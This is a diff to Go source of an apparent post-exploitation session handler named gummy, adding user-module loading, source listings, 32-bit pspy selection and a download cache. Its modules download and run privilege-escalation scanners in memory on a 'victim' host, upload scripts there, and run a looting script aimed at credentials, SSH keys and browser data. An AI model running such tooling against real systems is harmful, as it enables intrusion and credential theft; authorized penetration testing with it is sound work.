@@ -4,6 +4,8 @@ import (
 	"context"
 	"fmt"
 	"sort"
+
+	"github.com/chsoares/gummy/internal/ui"
 )
 
 // Module interface for all gummy modules
@@ -36,6 +38,12 @@ func GetModuleRegistry() *ModuleRegistry {
 		globalRegistry.Register(&PowerShellScriptModule{})
 		globalRegistry.Register(&DotNetAssemblyModule{})
 		globalRegistry.Register(&PythonScriptModule{})
+
+		// User modules from ~/.gummy/modules
+		_, errs := globalRegistry.LoadUserModules(UserModuleDir())
+		for _, err := range errs {
+			fmt.Println(ui.Warning(fmt.Sprintf("Skipping user module %v", err)))
+		}
 	}
 	return globalRegistry
 }
@@ -140,6 +148,7 @@ func (m *PEASModule) Name() string        { return "peas" }
 func (m *PEASModule) Category() string    { return "linux" }
 func (m *PEASModule) Description() string { return "Run LinPEAS privilege escalation scanner" }
 func (m *PEASModule) ExecutionMode() string { return "memory" }
+func (m *PEASModule) Sources() []string     { return []string{URL_LINPEAS} }
 
 func (m *PEASModule) Run(session *SessionInfo, args []string) error {
 	return session.RunScriptInMemory(URL_LINPEAS, args)
@@ -152,6 +161,7 @@ func (m *LSEModule) Name() string        { return "lse" }
 func (m *LSEModule) Category() string    { return "linux" }
 func (m *LSEModule) Description() string { return "Run Linux Smart Enumeration" }
 func (m *LSEModule) ExecutionMode() string { return "memory" }
+func (m *LSEModule) Sources() []string     { return []string{URL_LSE} }
 
 func (m *LSEModule) Run(session *SessionInfo, args []string) error {
 	// Default to -l1 if no args provided
@@ -168,10 +178,25 @@ func (m *PSPYModule) Name() string        { return "pspy" }
 func (m *PSPYModule) Category() string    { return "linux" }
 func (m *PSPYModule) Description() string { return "Run pspy process monitor" }
 func (m *PSPYModule) ExecutionMode() string { return "disk-cleanup" }
+func (m *PSPYModule) Sources() []string     { return []string{URL_PSPY64, URL_PSPY32} }
 
 func (m *PSPYModule) Run(session *SessionInfo, args []string) error {
-	// Default to pspy64, but could add detection for 32-bit systems
-	return session.RunBinary(URL_PSPY64, args)
+	url, err := pspyURL(session.Facts().Arch)
+	if err != nil {
+		return err
+	}
+	return session.RunBinary(url, args)
+}
+
+// pspyURL picks the pspy build for the target architecture (64-bit if unknown)
+func pspyURL(arch string) (string, error) {
+	switch arch {
+	case "386":
+		return URL_PSPY32, nil
+	case "amd64", "":
+		return URL_PSPY64, nil
+	}
+	return "", fmt.Errorf("no pspy build for %s targets", arch)
 }
 
 // LootModule - ezpz post-exploitation script (credentials, SSH keys, browser data)
@@ -181,6 +206,7 @@ func (m *LootModule) Name() string        { return "loot" }
 func (m *LootModule) Category() string    { return "linux" }
 func (m *LootModule) Description() string { return "Run ezpz post-exploitation script" }
 func (m *LootModule) ExecutionMode() string { return "memory" }
+func (m *LootModule) Sources() []string     { return []string{URL_LOOT} }
 
 func (m *LootModule) Run(session *SessionInfo, args []string) error {
 	return session.RunScriptInMemory(URL_LOOT, args)
@@ -203,14 +229,27 @@ func (m *PrivescModule) Name() string        { return "privesc" }
 func (m *PrivescModule) Category() string    { return "misc" }
 func (m *PrivescModule) Description() string { return "Upload multiple privilege escalation scripts" }
 func (m *PrivescModule) ExecutionMode() string { return "disk-no-cleanup" }
+func (m *PrivescModule) Sources() []string {
+	return append(append([]string{URL_PSPY32}, linuxPrivescScripts...), windowsPrivescScripts...)
+}
 
 func (m *PrivescModule) Run(session *SessionInfo, args []string) error {
 	var scripts []string
 
 	// Select scripts based on detected platform
-	switch session.Platform {
+	switch session.Platform() {
 	case "linux", "unix", "":
 		scripts = linuxPrivescScripts
+		// 32-bit targets get pspy32
+		if session.Facts().Arch == "386" {
+			scripts = nil
+			for _, url := range linuxPrivescScripts {
+				if url == URL_PSPY64 {
+					url = URL_PSPY32
+				}
+				scripts = append(scripts, url)
+			}
+		}
 	case "windows":
 		scripts = windowsPrivescScripts
 	default:
@@ -221,14 +260,15 @@ func (m *PrivescModule) Run(session *SessionInfo, args []string) error {
 	for _, url := range scripts {
 		filename := getFilenameFromURL(url)
 
-		// Download locally to temp with unique name
-		localPath := fmt.Sprintf("/tmp/gummy_%s", filename)
-		if err := DownloadFile(url, localPath); err != nil {
+		// Comes from the module cache (downloaded on first use)
+		localPath, err := FetchModuleFile(url)
+		if err != nil {
+			fmt.Println(ui.Error(fmt.Sprintf("%s: %v", filename, err)))
 			continue
 		}
 
 		// Upload to victim's CWD with original filename
-		t := NewTransferer(session.Conn, session.ID)
+		t := NewTransferer(session)
 		t.Upload(context.Background(), localPath, filename)
 	}
 